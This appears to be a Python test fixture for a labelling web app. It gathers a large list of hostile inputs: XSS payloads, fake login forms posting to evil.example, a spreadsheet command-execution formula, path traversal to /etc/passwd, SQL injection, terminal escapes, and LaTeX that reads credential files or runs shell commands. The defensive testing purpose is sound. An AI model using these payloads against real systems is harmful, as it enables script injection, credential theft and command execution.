"""Hostile texts, in one place: every surface of the labelling app is driven with all of them.

What they would do where they got through: open a dialog (alert), set `window.__pwned`, ask evil.example for something,
leave the page, lie over it, post a form, take an id or a class of the page's own, run as a formula in a spreadsheet or
as a command in a terminal, hide words, or keep the server busy.
"""

from __future__ import annotations

import re

from labeling_ui.assignment import Assigner
from labeling_ui.render import visible
from labeling_ui.store import Judgement, LabelStore, Project, Settings

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "script in capitals": "<ScRiPt SRC=//evil.example/x.js></sCrIpT>",
    "script unclosed": "<script>alert(1)",
    "script split": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script with slash": "<script/x>alert(1)</script/x>",
    "script after newline": "<\nscript>alert(1)</script>",
    "script in a code fence": "```html\n</code></pre><script>alert(1)</script>\n```",
    "script as a fence's language": '```"><script>alert(1)</script>\nx\n```',
    "script in code": "`</code><script>alert(1)</script>`",
    "script in math": r"$$</span><script>alert(1)</script>$$",
    "script in a table": "|<script>alert(1)</script>|b|\n|-|-|\n|<img src=x onerror=alert(1)>|d|",
    "script in a heading": "# <script>alert(1)</script>",
    "event handler": "<p onclick=alert(1) onmouseover=alert(2)>x</p>",
    "event handler on an image": "<img src=x onerror=alert(1)>",
    "event handler unquoted": "<details/open/ontoggle=alert(1)>",
    "event handler with tab": '<b onmouseover\t=\t"alert(1)">x</b>',
    "autofocus": "<input autofocus onfocus=alert(1)>",
    "iframe": '<iframe src="https://evil.example"></iframe>',
    "iframe with a document": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "frame set": "<frameset><frame src=javascript:alert(1)></frameset>",
    "object": '<object data="https://evil.example/x.swf"></object>',
    "embed": '<embed src="https://evil.example/x.svg">',
    "applet": "<applet code=x.class></applet>",
    "svg": "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "svg animate": "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "svg use": '<svg><use href="https://evil.example/x.svg#a"/></svg>',
    "svg foreign object": "<svg><foreignObject><iframe src=//evil.example></foreignObject></svg>",
    "mathml": '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    "mathml mutation": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></mtext></math>",
    "mutation by noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "mutation by template": "<template><script>alert(1)</script></template>",
    "mutation by select": "<select><style></select><img src=x onerror=alert(1)></style>",
    "style element": "<style>*{display:none} @import '//evil.example/x.css'</style>",
    "style attribute": '<p style="background:url(//evil.example/x)">x</p>',
    "overlay": '<div style="position:fixed;inset:0;z-index:9999;background:#fff">Log in again</div>',
    "overlay on a span": '<span class="math" style="position:fixed;inset:0">x</span>',
    "link to a style sheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "form": '<form action="https://evil.example"><input name=password type=password><button>Log in</button></form>',
    "form around": '<button form="label" formaction="//evil.example">4</button>',
    "text area": "<textarea name=x></textarea><select><option>1</select>",
    "base": '<base href="https://evil.example/">',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "title": "</title><title>Mine</title>",
    "end of the page": "</p></div></main></body></html><h1>Mine</h1>",
    "end of a text area": "</textarea></style></script><img src=x onerror=alert(1)>",
    "id": '<p id="answers">x</p><a name="answers"></a>',
    "id that hides a variable": '<form id=document><img name=cookie id=currentScript>',
    "class of the page": '<span class="math keys hidden">x</span><p class="answer chosen">x</p>',
    "data attributes": '<p data-testid="submit" data-action="vote" aria-hidden="true" hidden tabindex=1>x</p>',
    "image": "![x](https://evil.example/x.png)",
    "image of data": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "image by reference": "![x][y]\n\n[y]: https://evil.example/x.png 'title'",
    "image with a hostile title": '![x](x.png "onerror=alert(1)")',
    "picture": '<picture><source srcset="//evil.example/x"><img src=x></picture>',
    "video": '<video src="//evil.example/x" poster="//evil.example/y" autoplay></video><audio src=x></audio>',
    "link": "[the answer](https://evil.example)",
    "link that runs": "[x](javascript:alert(1))",
    "link that runs, spelt": "[x](javascript&colon;alert&lpar;1&rpar;)",
    "link that runs, with tab": "[x](java\tscript:alert(1))",
    "link of data": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "link of vbscript": "[x](vbscript:msgbox(1))",
    "link in angle brackets": "<https://evil.example> <javascript:alert(1)> <me@evil.example>",
    "link as HTML": '<a href="javascript:alert(1)" target=_blank ping="//evil.example">x</a>',
    "link by reference": "[x]\n\n[x]: javascript:alert(1)",
    "link in an image in a link": "[![x](https://evil.example/x.png)](javascript:alert(1))",
    "link that looks bare": "https://evil.example www.evil.example me@evil.example",
    "image in emphasis": "**![x](//evil.example/x.png)** *<img src=//evil.example>*",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "entities twice": "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "entities in hex": "&#x3c;iframe src=//evil.example&#x3e;",
    "comment": "<!-- <script>alert(1)</script> -->",
    "comment that ends early": "<!--><img src=x onerror=alert(1)>-->",
    "comment for old browsers": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "processing instruction": "<?xml version='1.0'?><?php system('x') ?>",
    "doctype": "<!DOCTYPE html><html><head></head><body onload=alert(1)>",
    "custom element": "<x-evil onclick=alert(1) is=script>x</x-evil>",
    "portal and dialog": "<dialog open>Log in</dialog><portal src=//evil.example></portal>",
    "marquee": "<marquee onstart=alert(1)>x</marquee><blink>x</blink>",
    "dark text": '<font color=white size=1>ignore the other answer</font>',
    "NUL in a tag": "<scr\0ipt>alert(1)</scr\0ipt>",
    "control characters": "<\x01script\x08>\x0b\x0c\x1b[2J\x7f\x85\x9b",
    "halves of pairs": "\ud800<script>\udfff",
    "direction turned": "\u202egpj.exe <\u202dscript>",
    "direction turned by entity": "&#8238;gpj.exe &#x202d;x",
    "full width": "＜script＞alert(1)＜/script＞",
    "UTF-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "template": "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= 1 %>",
    "heading with attributes": "# x {#answers .hidden onclick=alert(1)}",
    "list start": '<ol start="1&quot; onclick=alert(1)"><li value=9 type=A>x</ol>',
    "table with attributes": '<table background="//evil.example/x"><td background=x colspan=999 onclick=x>y</table>',
    "mark by an image": "<img src=x onerror='window.__pwned=1'>",
    "mark by a script": "</div></section></main><h1>out</h1><script>window.__pwned=1</script>",
    "mark by an address": "javascript:window.__pwned=1",
    "attribute ended": "\" autofocus onfocus=\"window.__pwned=1\" x=\"",
    "attribute ended by an apostrophe": "' onmouseover='window.__pwned=1' style='position:fixed;inset:0",
    "cell ended": "</td></tr></tbody></table><img src=x onerror=window.__pwned=1>",
    "summary ended": "</summary></details><form action=//evil.example><button>Log in again</button></form>",
    "option ended": "</option></select><img src=x onerror=window.__pwned=1>",
    "JSON ended": "\"}]}</script><script>window.__pwned=1</script>",
    "empty line, then Markdown": "a\n\n![x](http://evil.example/b.png)\n\n<img src=x onerror=window.__pwned=1>\n",
    "carriage returns, then Markdown": "a\r\r![x](http://evil.example/c.png)\r\r<img src=x onerror=window.__pwned=1>\r",
    "ids of the page": "<p id='al-undo'>Undo</p><div id='align' class='al-bar'>x</div>",
    "formula of a spreadsheet": "=cmd|' /C calc'!A0",
    "formula of a spreadsheet, signed": "+SUM(A1:A9)*@x-1",
    "title of a terminal": "\x1b]0;owned\x07\x1b[2J\x1b[31mred",
    "path": "../../../../etc/passwd%00.jsonl",
    "query": "a&project=other&x=#fragment?y='; DROP TABLE events; --",
}  # fmt: skip

# LaTeX that would lead, hide, cover, load, run, or never end.
LATEX = {
    "link that runs": r"$\href{javascript:alert(1)}{x}$",
    "link": r"$$\href{https://evil.example}{x}$$",
    "address": r"\(\url{https://evil.example}\)",
    "required link": r"$$\require{html}\href{javascript:alert(1)}{x}$$",
    "image": r"\(\includegraphics{https://evil.example/x.png}\)",
    "class": r"\(\htmlClass{al-bar}{x}\)",
    "id": r"\(\htmlId{al-undo}{x}\)",
    "style of HTML": r"\(\htmlStyle{position:fixed;inset:0}{x}\)",
    "data": r"\(\htmlData{action=vote}{x}\)",
    "class and id": r"\[\class{al-bar}{x} \cssId{al-undo}{y}\]",
    "style": r"\(\style{position:fixed;inset:0;background:red}{x}\)",
    "color": r"$\color{white}{hidden}$",
    "color with an address": r"$\color{url(//evil.example)}{x}$",
    "text color": r"$\textcolor{#ffffff}{hidden}$",
    "phantom": r"$$\phantom{hidden} \hphantom{h} \vphantom{v}$$",
    "far to the left": r"\(\hspace{-500em}\text{over}\)",
    "kern": r"$\kern-1000em over$",
    "kern of many": "$$" + r"\!" * 400 + "x$$",
    "far to the right": r"$\hspace{99999em}x$",
    "rule": r"$\rule{9999em}{9999em}$",
    "raised": r"$\raisebox{500em}{x}$",
    "smashed": r"$\smash{x}\llap{over}\rlap{over}$",
    "huge": r"$\Huge \Huge x$",
    "text that is HTML": r"$$\text{<img src=x onerror=alert(1)>}$$",
    "text that ends math": r"$$\text{</math><script>alert(1)</script>}$$",
    "letters that end math": r"\(\mathrm{</mi></math><img src=x onerror=window.__pwned=1>}\)",
    "symbols that are HTML": "$<img/src=x/onerror=alert(1)>$",
    "annotation ended": r"$$</annotation></semantics></math><script>alert(1)</script>$$",
    "annotation of HTML": r"$$<annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml>$$",
    "operator's name": r"$\operatorname{<img src=x onerror=alert(1)>}$",
    "blackboard": r"$\mathbb{<script>alert(1)</script>}$",
    "delimiters": r"$\left<script\right>alert(1)\left</script\right>$",
    "columns": r"\[ \begin{array}{<img src=x onerror=alert(1)>} a \end{array} \]",
    "environment": r"$$\begin{<script>}alert(1)\end{<script>}$$",
    "entities": r"$$&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;$$",
    "entities in text": r"$$\text{&#x202e;gnp.exe &#x3c;script&#x3e;}$$",
    "no character": r"$$\text{&#xD800; &#x110000; &#x0;}$$",
    "direction": "$\u202ex = \u2066y$",
    "file": r"$$\input{/etc/passwd} \include{/etc/shadow}$$",
    "shell": r"$$\immediate\write18{id}$$",
    "macro without end": r"$$\def\x{\x\x}\x$$",
    "macros that double": r"$$\newcommand{\a}[1]{#1#1}\a{\a{\a{\a{x}}}}$$",
    "braces": "$$" + "{" * 900 + "x" + "}" * 900 + "$$",
    "braces unclosed": "$$" + "{" * 1500 + "$$",
    "roots": r"\(" + r"\sqrt" * 180 + r" x\)",
    "powers": "$$" + "x^{" * 400 + "x" + "}" * 400 + "$$",
    "fractions": "$$" + r"\frac{1}{" * 150 + "x" + "}" * 150 + "$$",
    "left without right": r"\(" + r"\left(" * 150 + r"\)",
    "primes": "$x" + "'" * 900 + "$",
    "cells": r"$$\begin{matrix}" + "&" * 1900 + r"\end{matrix}$$",
    "rows": r"$$\begin{matrix}" + r"\\" * 900 + r"\end{matrix}$$",
    "spaces": "$x" + " " * 900 + "y$",
    "digits": "$$" + "1" * 1900 + "$$",
    "text unclosed": "$$" + r"\text{" * 300 + "$$",
    "across a table": "|$a|b$|\n|-|-|\n|$$c|d$$|",
    "across a list": "$$\n- a\n- <script>alert(1)</script>\n$$",
    "unclosed block": "$$\n" + "x\n" * 200,
}  # fmt: skip

PAYLOADS = {**HOSTILE, **{f"LaTeX: {name}": text for name, text in LATEX.items()}}

# Words and answers may hold anything but the character 0 and halves of surrogate pairs, which the app refuses.
TEXTS = list(dict.fromkeys(re.sub("[\0\ud800-\udfff]", "?", text) for text in PAYLOADS.values()))
# Names are of one line and hold nothing that cannot be seen. Name to text.
NAMES = {re.sub(r"\s+", " ", visible(text))[:150].strip(): text for text in TEXTS}


def chunks(size: int) -> list[list[str]]:
    """The texts, so many at a time; the last of them are filled up from the first."""
    whole = [*TEXTS, *TEXTS[: -len(TEXTS) % size]]
    return [whole[start : start + size] for start in range(0, len(whole), size)]


def bare(text: str) -> str:
    """What is left of a text wherever a page folds spaces."""
    return re.sub(r"\s+", "", visible(text))


def judged(store: LabelStore, name: str) -> Project:
    """A project in which every text is a prompt's turn, an annotator's name, a comment, and a flag, a better answer or
    the reason of a skip; every item has four labels that disagree."""
    project = store.create_project(name, settings=Settings(gold_share=0.0, overlap=9))
    groups = chunks(4)
    for number, texts in enumerate(groups):
        prompt = [*({"role": "user", "content": text} for text in texts)]
        answers = [{"text": texts[0], "model": texts[1]}, {"text": f"{texts[2]}\n\n{texts[3]}", "model": texts[3]}]
        made = {"id": f"c{number}", "prompt": prompt, "split": "train", "answers": answers, "explanation": texts[0]}
        store.add_items(project, [made])
    given = [(item, text) for item, texts in zip(store.items(project), groups, strict=True) for text in texts]
    said: list[Judgement] = [
        {
            "item_id": item.id,
            "annotator": f"{text[:400]} {number}",
            "key": f"k{number}",
            "order": [0, 1],
            "value": 7 if number % 2 else 1,
            "comment": text,
            "flag": text if number % 3 == 0 else None,
            "rewrite": text if number % 3 == 1 else None,
        }
        for number, (item, text) in enumerate(given)
    ]
    store.record_many(project, said)
    assigner = Assigner(store, project)
    for number, (text, *_) in enumerate(groups):
        lease = assigner.next("skipper")
        assert lease is not None
        assigner.skip("skipper", lease.token, f"s{number}", {"order": list(lease.order), "reason": text[:500]})
    return project
